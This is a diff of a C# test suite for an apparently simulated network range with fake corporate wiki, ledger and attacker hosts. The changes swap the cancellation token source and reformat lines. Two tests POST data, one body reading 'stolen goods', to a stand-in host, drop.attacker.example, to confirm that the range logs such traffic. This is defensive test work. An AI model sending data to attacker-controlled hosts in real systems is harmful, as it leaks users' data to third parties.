@@ -16,10 +16,10 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
     public async Task The_stream_sends_events_one_by_one(string url, string version)
     {
         using var client = range.NewClient(version: Version.Parse(version));
-        await using var body = await client.GetStreamAsync(url + "?events=3", TestContext.Current.CancellationToken);
+        await using var body = await client.GetStreamAsync(url + "?events=3", Runner.Cancellation);
 
         var numbers = new List<int>();
-        await foreach (var one in SseParser.Create(body).EnumerateAsync(TestContext.Current.CancellationToken))
+        await foreach (var one in SseParser.Create(body).EnumerateAsync(Runner.Cancellation))
         {
             Assert.Equal("post", one.EventType);
             numbers.Add(JsonElement.Parse(one.Data).Number("number"));
@@ -34,9 +34,10 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
         const string Filter = "host=ledger.corp.example&path=/_range/stream";
         using var client = range.NewClient();
         using var leaving = new CancellationTokenSource();
-        await using (var body = await client.GetStreamAsync("https://ledger.corp.example/_range/stream", TestContext.Current.CancellationToken))
+        await using (
+            var body = await client.GetStreamAsync("https://ledger.corp.example/_range/stream", Runner.Cancellation))
         {
-            await body.ReadExactlyAsync(new byte[10], TestContext.Current.CancellationToken);
+            await body.ReadExactlyAsync(new byte[10], Runner.Cancellation);
             Assert.Equal(1, (await range.ReceivedAsync(Filter)).Number("matching_open"));
         }
 
@@ -54,27 +55,31 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
         using var socket = new ClientWebSocket();
         socket.Options.HttpVersion = Version.Parse(version);
         socket.Options.HttpVersionPolicy = HttpVersionPolicy.RequestVersionExact;
-        await socket.ConnectAsync(new Uri("wss://wiki.corp.example/_range/echo"), invoker, TestContext.Current.CancellationToken);
+        await socket.ConnectAsync(new Uri("wss://wiki.corp.example/_range/echo"), invoker, Runner.Cancellation);
         var sent = Encoding.UTF8.GetBytes(new string('e', 200_000));
-        await socket.SendAsync(sent, WebSocketMessageType.Text, true, TestContext.Current.CancellationToken);
+        await socket.SendAsync(sent, WebSocketMessageType.Text, true, Runner.Cancellation);
 
         var back = new MemoryStream();
         var buffer = new byte[16 * 1024];
         ValueWebSocketReceiveResult frame;
         do
         {
-            frame = await socket.ReceiveAsync(buffer.AsMemory(), TestContext.Current.CancellationToken);
-            await back.WriteAsync(buffer.AsMemory(0, frame.Count), TestContext.Current.CancellationToken);
+            frame = await socket.ReceiveAsync(buffer.AsMemory(), Runner.Cancellation);
+            await back.WriteAsync(buffer.AsMemory(0, frame.Count), Runner.Cancellation);
         }
         while (!frame.EndOfMessage);
 
-        await socket.CloseAsync(WebSocketCloseStatus.NormalClosure, null, TestContext.Current.CancellationToken);
+        await socket.CloseAsync(WebSocketCloseStatus.NormalClosure, null, Runner.Cancellation);
         Assert.Equal(sent, back.ToArray());
-        await UntilAsync(async () => (await range.ReceivedAsync("path=/_range/echo")).GetProperty("matching_bytes").GetInt64() >= sent.Length);
+        await UntilAsync(
+            async () =>
+                (await range.ReceivedAsync("path=/_range/echo")).GetProperty("matching_bytes")
+                    .GetInt64() >= sent.Length);
     }
 
     [Fact]
-    public async Task The_echo_refuses_what_is_no_websocket() => await range.GetAsync("https://www.moltbook.com/_range/echo", HttpStatusCode.BadRequest);
+    public async Task The_echo_refuses_what_is_no_websocket() =>
+        await range.GetAsync("https://www.moltbook.com/_range/echo", HttpStatusCode.BadRequest);
 
     [Theory]
     [InlineData(0)]
@@ -86,9 +91,10 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
         new Random(7).NextBytes(bytes);
         using var client = range.NewClient();
         using var content = new ByteArrayContent(bytes);
-        using var response = await client.PostAsync("https://drop.attacker.example/_range/sink", content, TestContext.Current.CancellationToken);
+        using var response = await client.PostAsync(
+            "https://drop.attacker.example/_range/sink", content, Runner.Cancellation);
 
-        var answer = JsonElement.Parse(await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
+        var answer = JsonElement.Parse(await response.Content.ReadAsStringAsync(Runner.Cancellation));
 
         Assert.Equal(length, answer.Number("bytes"));
         Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(bytes)), answer.Text("sha256"));
@@ -102,12 +108,17 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
         using var cut = new CancellationTokenSource();
         using var content = new HeldContent(5000);
         var sending = client.PostAsync("https://www.moltbook.com/_range/sink", content, cut.Token);
-        await UntilAsync(async () => (await range.ReceivedAsync(Filter)) is var now && now.Number("matching_open") == 1 && now.Number("matching_bytes") == 5000);
+        await UntilAsync(
+            async () =>
+                (await range.ReceivedAsync(Filter)) is var now && now.Number("matching_open") == 1
+                    && now.Number("matching_bytes") == 5000);
 
         await cut.CancelAsync();
 
         await Assert.ThrowsAnyAsync<OperationCanceledException>(() => sending);
-        await UntilAsync(async () => (await range.ReceivedAsync(Filter)).GetProperty("lines")[0].GetProperty("aborted").GetBoolean());
+        await UntilAsync(
+            async () =>
+                (await range.ReceivedAsync(Filter)).GetProperty("lines")[0].GetProperty("aborted").GetBoolean());
     }
 
     [Fact]
@@ -115,7 +126,8 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
     {
         using var client = range.NewClient();
         using var content = new StringContent("stolen goods");
-        using var response = await client.PostAsync("https://drop.attacker.example/any/path?with=query", content, TestContext.Current.CancellationToken);
+        using var response = await client.PostAsync(
+            "https://drop.attacker.example/any/path?with=query", content, Runner.Cancellation);
 
         var line = LogLines().Single(static one => one.Text("path") == "/any/path?with=query");
 
@@ -131,7 +143,7 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
         using var client = range.NewClient();
         foreach (var host in (string[])["www.moltbook.com", "wiki.corp.example", "ledger.corp.example"])
         {
-            using var response = await client.GetAsync($"https://{host}/_range/received", TestContext.Current.CancellationToken);
+            using var response = await client.GetAsync($"https://{host}/_range/received", Runner.Cancellation);
             Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
         }
     }
@@ -140,7 +152,7 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
     public async Task The_wiki_is_pages_and_the_ledger_books_entries()
     {
         using var client = range.NewClient();
-        var page = await client.GetStringAsync("https://wiki.corp.example/pages/on-call", TestContext.Current.CancellationToken);
+        var page = await client.GetStringAsync("https://wiki.corp.example/pages/on-call", Runner.Cancellation);
         var before = await range.GetAsync("https://ledger.corp.example/entries");
 
         await range.SendAsync(
@@ -149,7 +161,10 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
             """{"account":"1000","amount_cents":250,"memo":"test"}""",
             HttpStatusCode.Created);
         await range.SendAsync(
-            HttpMethod.Post, "https://ledger.corp.example/entries", """{"account":"1000","memo":"no amount"}""", HttpStatusCode.BadRequest);
+            HttpMethod.Post,
+            "https://ledger.corp.example/entries",
+            """{"account":"1000","memo":"no amount"}""",
+            HttpStatusCode.BadRequest);
 
         var after = await range.GetAsync("https://ledger.corp.example/entries");
         Assert.Contains("<h1>On call</h1>", page, StringComparison.Ordinal);
@@ -160,9 +175,11 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
     private JsonElement[] LogLines()
     {
         // The range holds the file open.
-        using var file = new FileStream(Path.Combine(range.StateFolder, "received.jsonl"), FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
+        using var file = new FileStream(
+            Path.Combine(range.StateFolder, "received.jsonl"), FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
         using var reader = new StreamReader(file);
-        return [.. reader.ReadToEnd().Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(static line => JsonElement.Parse(line))];
+        var lines = reader.ReadToEnd().Split('\n', StringSplitOptions.RemoveEmptyEntries);
+        return [.. lines.Select(static line => JsonElement.Parse(line))];
     }
 
     /// <summary>Asks again until it is so; the runner's own time limit is the only clock.</summary>
@@ -170,7 +187,7 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
     {
         while (!await condition())
         {
-            await Task.Delay(TimeSpan.FromMilliseconds(10), TimeProvider.System, TestContext.Current.CancellationToken);
+            await Task.Delay(TimeSpan.FromMilliseconds(10), TimeProvider.System, Runner.Cancellation);
         }
     }
 
@@ -179,7 +196,8 @@ public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeU
         protected override Task SerializeToStreamAsync(Stream stream, TransportContext? context) =>
             SerializeToStreamAsync(stream, context, CancellationToken.None);
 
-        protected override async Task SerializeToStreamAsync(Stream stream, TransportContext? context, CancellationToken cancellationToken)
+        protected override async Task SerializeToStreamAsync(
+            Stream stream, TransportContext? context, CancellationToken cancellationToken)
         {
             await stream.WriteAsync(new byte[bytes], cancellationToken);
             await stream.FlushAsync(cancellationToken);
